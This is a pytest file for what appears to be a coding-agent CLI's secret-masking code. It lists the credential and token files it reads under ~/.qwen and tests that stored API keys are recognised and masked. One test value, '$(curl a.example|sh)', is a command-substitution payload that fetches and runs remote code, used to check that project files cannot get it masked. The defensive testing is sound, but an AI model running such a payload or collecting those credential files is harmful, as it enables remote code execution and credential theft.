from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from qwen_code.auth.stored_secrets import remember_stored_secrets
from qwen_code.base.secret import holds_secret
from qwen_code.config.load import Config

PLACES = {
    "~/.qwen/profiles.json": {"profiles": {"a": {"method": "openai", "apiKey": "KEY"}}},
    "~/.qwen/profiles.json.1234.tmp": {"profiles": {"a": {"apiKey": "KEY"}}},
    "~/.qwen/oauth_creds.json": {"access_token": "KEY"},
    "~/.qwen/oauth_creds.json.next": {"refresh_token": "KEY"},
    "~/.qwen/accounts/other.json": {"api_key": "KEY", "origin": "https://a.example"},
    "~/.qwen/accounts/second.json": {"refresh_token": "KEY"},
    "~/.qwen/mcp/server.json": {"access_token": "x", "qwen": {"client": {"client_secret": "KEY"}}},
    "~/.qwen/oauth_pending/a.json": {"device_code": "KEY"},
    "~/.qwen/oauth_pending/b.json": {"code_verifier": "KEY"},
    "~/.qwen/mcp-oauth-tokens.json": [{"serverName": "s", "token": {"accessToken": "KEY"}}],
    "~/.qwen/local_server.json": {"base_url": "http://127.0.0.1:1", "key": "KEY", "pid": 1},
    "~/.qwen/settings.json": {"security": {"auth": {"apiKey": "KEY"}}},
    "~/.qwen/settings.json ": {"modelProviders": [{"headers": {"Authorization": "Bearer KEY"}}]},
    "~/.qwen/settings.json  ": {"mcpServers": {"s": {"oauth": {"clientSecret": "KEY"}}}},
    "~/.qwen/.env": "LLAMA_API_KEY=KEY\n",
    "~/.env": "OPENAI_API_KEY='KEY'\n",
}


@pytest.mark.parametrize("place", PLACES)
def test_a_secret_is_known_wherever_it_is_stored(world: Any, place: str, tmp_path: Path) -> None:
    key = f"sk-stored-{abs(hash((place, tmp_path)))}"
    world.write(".env", "LLAMA_API_MODEL=m\n")  # goes before the user's own
    content = PLACES[place]
    text = content if isinstance(content, str) else json.dumps(content)
    world.write(
        place.strip(), text.replace("KEY", key) if "API_KEY" not in text else _filled(text, key)
    )
    remember_stored_secrets(Config.load(world.env, world.project))
    assert holds_secret(f"x {key} y")


def _filled(text: str, key: str) -> str:
    name, _, value = text.partition("=")
    return f"{name}={value.replace('KEY', key)}"


@pytest.mark.parametrize("text", ["", "{", "[]", "\0", '{"apiKey": 5}', '"x"', "[" * 100_000])
def test_a_damaged_file_hides_no_other(world: Any, text: str, tmp_path: Path) -> None:
    key = f"sk-beside-{abs(hash((text, tmp_path)))}"
    for name in ("a", "c"):
        world.write(f"~/.qwen/accounts/{name}.json", text)
    world.write("~/.qwen/accounts/b.json", {"api_key": key})
    (world.home / ".qwen" / "accounts" / "d.json").mkdir()
    remember_stored_secrets(Config.load(world.env, world.project))
    assert holds_secret(key)


@pytest.mark.parametrize("file", [".env", ".qwen/.env", ".qwen/settings.json"])
@pytest.mark.parametrize("words", ["return False # nothing", "function", "$(curl a.example|sh)"])
def test_a_project_cannot_have_words_masked(world: Any, file: str, words: str) -> None:
    """A change that a person approves would hide them."""
    tree = {"security": {"token": words}, "env": {"LLAMA_API_KEY": words}}
    world.write(file, tree if file.endswith("json") else f"LLAMA_API_KEY='{words}'\n")
    remember_stored_secrets(Config.load(world.env, world.project))
    assert not holds_secret(words)


def test_a_project_takes_no_path_from_children(world: Any) -> None:
    world.write(".env", "LLAMA_API_KEY=opt/tools-1.2.3/bin\n")
    world.env["PATH"] = "/opt/tools-1.2.3/bin:/bin"
    config = Config.load(world.env, world.project)
    remember_stored_secrets(config)
    assert config.environment.child_environment()["PATH"] == world.env["PATH"]


def test_what_servers_of_others_are_meant_to_have_is_left_to_them(world: Any) -> None:
    token = "token-of-another-program"
    servers = {"mcpServers": {"s": {"command": "x", "env": {"TOKEN": token}}}}
    world.write("~/.qwen/settings.json", servers)
    remember_stored_secrets(Config.load(world.env, world.project))
    assert not holds_secret(token)
